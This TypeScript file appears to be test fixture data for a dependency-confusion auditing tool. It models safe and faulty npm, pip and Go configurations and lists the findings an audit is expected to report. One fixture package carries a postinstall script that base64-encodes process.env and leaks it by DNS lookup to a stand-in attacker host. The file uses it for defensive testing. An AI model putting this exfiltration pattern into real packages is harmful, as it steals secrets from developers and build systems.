import { type Article, built, type ChecklistLine, carefulCi, ci, workflow } from './article.js'

const policy =
  "version: 1\ninternal:\n  scopes: ['@corp']\n  patterns: ['corp-*', 'mcp-auth-*']\npython:\n  requireHashes: true\n"
const hash = `--hash=sha256:${'0'.repeat(64)}`
const goMod = 'module example.test/server\n\ngo 1.24\n\nrequire example.test/pool v1.2.3\n'
const goSum = 'example.test/pool v1.2.3 h1:AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA=\n'

/** Inert: the host cannot be looked up. */
const steal = [
  "const dns = require('dns')",
  "const payload = Buffer.from(JSON.stringify(process.env)).toString('base64').slice(0, 60)",
  "dns.lookup(payload + '.exfil.attacker.example', () => {})",
  '',
].join('\n')

const dependencies = { 'table-of-rows': '1.0.0', '@corp/mcp-auth-utils': '1.4.2' }
const own = {
  version: '1.4.2',
  resolved: 'https://npm.corp.example/@corp/mcp-auth-utils/-/mcp-auth-utils-1.4.2.tgz',
}
// biome-ignore lint/suspicious/noTemplateCurlyInString: npm replaces it
const npmrc = '@corp:registry=https://npm.corp.example/\n//npm.corp.example/:_authToken=${CORP_NPM_TOKEN}\n'

const followed = {
  manifest: { dependencies },
  locked: { 'table-of-rows': '1.0.0', '@corp/mcp-auth-utils': own },
  files: {
    '.github/lockwarden.yml': policy,
    '.npmrc': npmrc,
    [ci]: carefulCi('pip install --require-hashes -r requirements.txt', 'go mod verify'),
    Dockerfile: 'FROM node:24\nCOPY . .\nRUN npm ci --ignore-scripts\n',
    'requirements.txt': `requests==2.32.0 ${hash}\n`,
    'pip.conf': '[global]\nindex-url = https://pypi.corp.example/simple/\n',
    'go.mod': goMod,
    'go.sum': goSum,
  },
}

const { '.npmrc': _, 'pip.conf': __, 'go.sum': ___, ...unscopedFiles } = followed.files

const confused: readonly ChecklistLine[] = [
  ['unscoped internal names in package.json', 'internal-name-unscoped', 'package-lock.json', '"version": "1.4.2",'],
  ['unscoped internal names for pip', 'internal-name-unscoped', 'requirements.txt', 'corp-mcp-auth-utils==1.4.2'],
  ['CI by npm install', 'install-unlocked', ci, '- run: npm install'],
  ['images by npm install', 'install-unlocked', 'Dockerfile', 'RUN npm install'],
  ['scripts of all packages', 'install-scripts-enabled', ci, '- run: npm install'],
  ['pip without --require-hashes', 'hashes-missing', ci, '- run: pip install -r requirements.txt'],
  ['requirements without hashes', 'hashes-missing', 'requirements.txt', 'corp-mcp-auth-utils==1.4.2'],
  ['no .npmrc that routes the scope', 'registry-scope-missing', 'package.json', '"@corp/mcp-auth-utils": "1.4.2",'],
  ['no pip.conf that routes its names', 'registry-scope-missing', 'requirements.txt', 'corp-mcp-auth-utils==1.4.2'],
  ['go.sum committed', 'checksums-missing', 'go.mod', 'require example.test/pool v1.2.3'],
]

const ordered: ChecklistLine = [
  'the internal index first',
  'registry-order-unsafe',
  'pip.conf',
  'extra-index-url = https://pypi.public.example/simple/',
]

const version = '"version": "9999.0.0",'
const squatted: readonly ChecklistLine[] = [
  ['a higher version in public', 'version-jump', 'package-lock.json', version],
  ['a name that anybody can take', 'internal-name-unscoped', 'package-lock.json', version],
  [
    'the public registry’s version is taken',
    'internal-name-public',
    'package-lock.json',
    /^"resolved": ".*mcp-auth-utils-9999\.0\.0\.tgz",$/,
  ],
  ['whose build it is', 'provenance-absent', 'package-lock.json', version],
]

export const dependencyConfusion: Article = {
  title: 'the article on dependency confusion',
  packages: {
    'table-of-rows': { '1.0.0': built },
    '@corp/mcp-auth-utils': { '1.4.2': built },
    'mcp-auth-utils': {
      '9999.0.0': { manifest: { scripts: { postinstall: 'node steal.js' } }, files: { 'steal.js': steal } },
    },
  },
  privateNames: ['@corp/mcp-auth-utils'],
  followed,
  faulty: [
    {
      description:
        'names without a scope, a scope without a registry, pip without hashes, Go without sums, CI without the lockfile',
      state: {
        manifest: { dependencies: { ...dependencies, 'rows-auth-utils': '1.4.2' } },
        locked: { ...followed.locked, 'rows-auth-utils': '1.4.2' },
        files: {
          ...unscopedFiles,
          [ci]: workflow('npm install', 'pip install -r requirements.txt'),
          Dockerfile: 'FROM node:24\nCOPY . .\nRUN npm install\n',
          'requirements.txt': 'corp-mcp-auth-utils==1.4.2\n',
        },
      },
      audited: [
        ...confused,
        ['a scope that is asked for in public', 'package-unpublished', 'package-lock.json', '"version": "1.4.2",'],
        ['no gate', 'audit-missing', 'package-lock.json'],
        ['no inventory', 'sbom-missing', 'package-lock.json'],
      ],
      reviewed: confused,
    },
    {
      description: 'the public index named second, as the article advises: pip has no order of indexes',
      state: {
        ...followed,
        files: {
          ...followed.files,
          'pip.conf':
            '[global]\nindex-url = https://pypi.corp.example/simple/\nextra-index-url = https://pypi.public.example/simple/\n',
        },
      },
      audited: [ordered],
      reviewed: [ordered],
    },
    {
      description:
        'the package of the attacker, under a name without a scope and with a version that no line of releases has',
      state: {
        ...followed,
        manifest: { dependencies: { ...dependencies, 'mcp-auth-utils': '>=1.4.2' } },
        locked: { ...followed.locked, 'mcp-auth-utils': { version: '9999.0.0', hasInstallScript: true } },
      },
      audited: squatted,
      reviewed: [
        ...squatted,
        ['a postinstall script', 'install-script-present', 'package-lock.json', version],
        ['one that steals', 'install-script-dangerous', 'package-lock.json', version],
        ['all of the environment', 'secrets-harvested', 'package-lock.json', version],
        ['out by names that are looked up', 'secrets-exfiltrated', 'package-lock.json', version],
        ['as soon as it is installed', 'beacon-added', 'package-lock.json', version],
        ['all at once', 'combined-risk', 'package-lock.json', version],
      ],
    },
  ],
}
